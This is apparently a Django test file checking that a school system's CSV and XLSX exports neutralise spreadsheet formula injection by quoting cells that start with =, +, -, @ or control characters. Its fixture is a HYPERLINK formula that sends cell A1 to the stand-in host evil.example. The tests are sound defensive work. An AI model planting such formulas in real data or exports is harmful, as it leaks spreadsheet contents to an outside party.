"""Spreadsheet formulas in exports (issue 13): a name imported as `=HYPERLINK(...)` comes out of
every CSV and XLSX export as text a spreadsheet will not run; numbers stay numbers."""

import csv
import datetime as dt
import io

from django.test import SimpleTestCase
from django.urls import reverse

from conduct.lib import spreadsheets
from reports.models import Commentary
from school.models import HalfTerm
from tests.base import SchoolDayTestCase
from tests.reports_fixtures import make_report_history
from tests.test_room_day import RoomDayBase

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


class SafeCellTest(SimpleTestCase):
    def test_it_quotes_text_that_a_spreadsheet_would_run(self):
        for text in [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
            with self.subTest(text=text):
                self.assertEqual(spreadsheets.safe_cell(text), "'" + text)

    def test_it_leaves_ordinary_text_and_numbers_alone(self):
        for value in ["Hart", "O'Neil", "10A", "", None, -3, -2.5, 0, 12]:
            with self.subTest(value=value):
                self.assertEqual(spreadsheets.safe_cell(value), value)


class MarksExportFormulaTest(RoomDayBase):
    def test_a_formula_surname_comes_out_of_the_marks_csv_as_text(self):
        self.student.legal_last_name = LINK
        self.student.legal_first_name = "-Jay"
        self.student.save()
        line = self.book_ie(days=1).days.get()
        self.mark_both(line, am="late")
        self.login(self.gita)
        response = self.client.get(
            reverse("marks-export"), {"from": line.date.isoformat(), "to": line.date.isoformat()}
        )
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        self.assertEqual(
            [(r["Surname"], r["Forename"], r["Minutes late"]) for r in rows],
            [("'" + LINK, "'-Jay", "10"), ("'" + LINK, "'-Jay", "")],
        )


class ReportExportFormulaTest(SchoolDayTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        make_report_history(cls)
        cls.autumn2 = HalfTerm.objects.get(starts_on=dt.date(2026, 11, 2))
        # The referrer's name, as the MIS sent it, is a row label of "By referrer".
        cls.charlie.first_name = ""
        cls.charlie.last_name = LINK
        cls.charlie.save()

    def export(self, fmt):
        self.login(self.evan)
        return self.client.get(reverse("reports-half-term-export", args=[self.autumn2.pk, fmt]))

    def test_a_formula_name_comes_out_of_the_report_csv_as_text(self):
        rows = list(csv.reader(io.StringIO(self.export("csv").content.decode())))
        labels = [row[0] for row in rows if row]
        self.assertIn("'" + LINK, labels)
        self.assertNotIn(LINK, labels)

    def test_a_formula_name_and_analysis_come_out_of_the_report_xlsx_as_text(self):
        from openpyxl import load_workbook

        Commentary.objects.create(
            half_term=self.autumn2,
            text="@SUM(1)\n- fewer removals",
            updated_by=self.bob,
            updated_at=self.now,
        )
        book = load_workbook(io.BytesIO(self.export("xlsx").content))
        by_referrer = [row[0] for row in book["By referrer"].iter_rows(min_row=2, values_only=True)]
        self.assertIn("'" + LINK, by_referrer)
        first = [row[0] for row in book["Report"].iter_rows(values_only=True)]
        self.assertIn("'@SUM(1)", first)
        self.assertIn("'- fewer removals", first)
        # Counts are still numbers a spreadsheet can add up.
        counts = [row[1] for row in book["By referrer"].iter_rows(min_row=2, values_only=True)]
        self.assertTrue(all(isinstance(n, int) for n in counts), counts)
        for cell in book["By referrer"]["A"]:
            self.assertNotEqual(cell.data_type, "f")
